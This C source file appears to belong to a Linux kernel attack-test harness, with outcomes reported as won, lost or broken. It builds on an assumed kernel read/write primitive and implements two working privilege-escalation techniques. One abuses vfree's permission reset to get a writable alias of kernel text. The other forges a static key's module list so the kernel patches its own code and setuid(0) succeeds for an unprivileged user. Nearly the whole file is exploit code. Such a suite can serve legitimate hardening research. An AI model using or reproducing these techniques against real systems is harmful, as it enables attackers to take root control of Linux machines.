// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of functions that change permissions or text: they believe
 * ordinary data about what they are to change.
 */
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

/* struct vm_struct, and struct vmap_area from its node in a tree */
#define VM_ADDR			8
#define VM_FLAGS		24
#define VM_PAGES		32
#define VM_FLUSH_RESET_PERMS	0x100UL
#define AREA_START		(-16)
#define AREA_END		(-8)
#define NODE_RIGHT		8
#define NODE_LEFT		16
#define NODE_VM			40
#define NODES_SIZE		16384	/* of the kernel's trees, at most */
#define MAX_DEPTH		40

static bool is_area(uint64_t start, uint64_t end)
{
	return is_kernel_address(start) && start < end && !(start % PAGE_SIZE) && !(end % PAGE_SIZE);
}

/* The vm_struct of an address, from a node that may be one of a tree of areas. */
static uint64_t search_tree(uint64_t node, uint64_t addr)
{
	uint64_t start, end;
	int depth;

	for (depth = 0; depth < MAX_DEPTH && is_kernel_address(node); depth++) {
		start = kread64(node + AREA_START);
		end = kread64(node + AREA_END);
		if (!is_area(start, end))
			return 0;
		if (addr >= start && addr < end)
			return kread64(node + NODE_VM);
		node = kread64(node + (addr < start ? NODE_LEFT : NODE_RIGHT));
	}
	return 0;
}

static uint64_t find_vm(uint64_t addr)
{
	uint64_t nodes = kread64(ksymbol("vmap_nodes")), vm, at;

	for (at = nodes; at < nodes + NODES_SIZE; at += sizeof(at)) {
		vm = search_tree(kread64(at), addr);
		if (is_kernel_address(vm) && kread64(vm + VM_ADDR) == addr)
			return vm;
	}
	return 0;
}

/* A driver's area is released: the aliases of its pages become as all others. */
static int reset_permissions_of(uint64_t page)
{
	uint64_t area, vm;
	int err;

	if (corrupt_command("vmalloc count=1"))
		return -1;
	area = corrupt_answer("address");
	vm = find_vm(area);
	if (!vm)
		return -1;
	err = add_reference(page, 1);
	err = err ?: kwrite64(kread64(vm + VM_PAGES), page);
	err = err ?: kwrite64(vm + VM_FLAGS, kread64(vm + VM_FLAGS) | VM_FLUSH_RESET_PERMS);
	return err ?: corrupt_command("vfree");
}

enum outcome vfree_text_alias(void)
{
	struct slot text;
	int err;

	if (kwalk(text_address(), LEAF, 0, &text))
		return broken("kernel text is not mapped");
	err = reset_permissions_of(text.page);
	if (err)
		return broken("no area to be released: %d", err);
	return patch_text_through(text.alias);
}

#ifdef __x86_64__
/*
 * A static key knows the places in text that it switches. Its list of modules
 * is made to name one more place: the first lines of a function that decides
 * who may become root become a jump to code that says yes.
 */
#define KEY			"netstamp_needed_key"	/* a socket switches it */
#define KEY_ENTRIES		8
#define LINKED			2UL	/* a list of modules */
#define SCRATCH			"modprobe_path"	/* near text, and long enough */
#define SCRATCH_USED		64	/* by a path */
#define SCAN			65536
#define PATIENCE		1000	/* times 10 ms */

struct jump_entry {
	int code, target;
	long key;
};

struct static_key_mod {
	uint64_t next, entries, module;
};

/* Whichever word is its table and whichever its length: the end is far away. */
#define MODULE_WORD		0xfffffff0f0000000UL

static const unsigned char nop[] = { 0x0f, 0x1f, 0x44, 0x00, 0x00 };
/* mov $1,%eax; ret */
static const unsigned char yes[] = { 0xb8, 0x01, 0x00, 0x00, 0x00, 0xc3 };

static uint64_t find_bytes(uint64_t from, uint64_t end, const void *bytes, size_t len)
{
	unsigned char page[PAGE_SIZE], *found;

	for (; from < end; from += PAGE_SIZE - len) {
		if (kread(from, page, sizeof(page)))
			return 0;
		found = memmem(page, sizeof(page), bytes, len);
		if (found)
			return from + (found - page);
	}
	return 0;
}

static bool forge_module(struct kernel_page *module)
{
	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];
	size_t i;

	if (!kernel_page(module))
		return false;
	for (i = 0; i < sizeof(words) / sizeof(*words); i++)
		words[i] = MODULE_WORD;
	return !kwrite(module->addr, words, sizeof(words));
}

/* Ours first, then the kernel's own places. */
static uint64_t forge_list(uint64_t entries, uint64_t own)
{
	struct static_key_mod list[2] = { { .entries = entries }, { .entries = own } };
	struct kernel_page page;

	if (!forge_module(&page))
		return 0;
	list[0].module = page.addr;
	if (!kernel_page(&page))
		return 0;
	list[0].next = page.addr + sizeof(list[0]);
	return kwrite(page.addr, list, sizeof(list)) ? 0 : page.addr;
}

static int write_entry(uint64_t at, uint64_t code, uint64_t target, uint64_t key)
{
	struct jump_entry entry = {
		.code = code - at,
		.target = target - at - sizeof(int),
		.key = key - at - 2 * sizeof(int),
	};

	return kwrite(at, &entry, sizeof(entry));
}

static bool wait_for_text(uint64_t code, bool patched)
{
	unsigned char now[sizeof(nop)];
	int i;

	for (i = 0; i < PATIENCE; i++) {
		kread(code, now, sizeof(now));
		if (patched == !!memcmp(now, nop, sizeof(nop)) && now[0] != 0xcc)
			return true;
		usleep(10000);
	}
	return false;
}

static int switch_on(void)
{
	int fd = socket(AF_NETLINK, SOCK_RAW, 0), on = 1;

	if (fd >= 0 && !setsockopt(fd, SOL_SOCKET, SO_TIMESTAMP, &on, sizeof(on)))
		return fd;
	return -1;
}

static enum outcome patch_by_key(uint64_t code)
{
	int uid = getuid(), fd = switch_on(), err;
	bool patched = fd >= 0 && wait_for_text(code, true);

	err = setuid(0);
	close(fd);
	if (!wait_for_text(code, false))
		return broken("the text was not put back");
	if (!patched || err || getuid())
		return lost("the kernel did not patch its text");
	return won("the kernel patched its own text: setuid(0) by uid=%d gave uid=%d", uid, getuid());
}

enum outcome jump_label(void)
{
	uint64_t code = find_bytes(text_address(), text_address() + 1, nop, sizeof(nop));
	uint64_t target = find_bytes(ksymbol("_stext"), ksymbol("_etext"), yes, sizeof(yes));
	uint64_t key = ksymbol(KEY), at = ksymbol(SCRATCH) + SCRATCH_USED, old, list;
	enum outcome outcome;

	if (!key || kread64(key) || !at || code - text_address() > sizeof(yes) || !target)
		return broken("no static key, no room, or no place that can be patched");
	old = kread64(key + KEY_ENTRIES);
	list = forge_list(at, old & ~3UL);
	if (!list || write_entry(at, code, target, key))
		return broken("no room for a list");
	if (kwrite64(key + KEY_ENTRIES, list | LINKED | (old & 1)))
		return lost("the key's list was not to be changed");
	outcome = patch_by_key(code);
	kwrite64(key + KEY_ENTRIES, old);
	kwrite(at, "\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", sizeof(struct jump_entry));
	return outcome;
}
#else
enum outcome jump_label(void)
{
	return skipped("what the kernel writes there cannot be undone on this architecture");
}
#endif
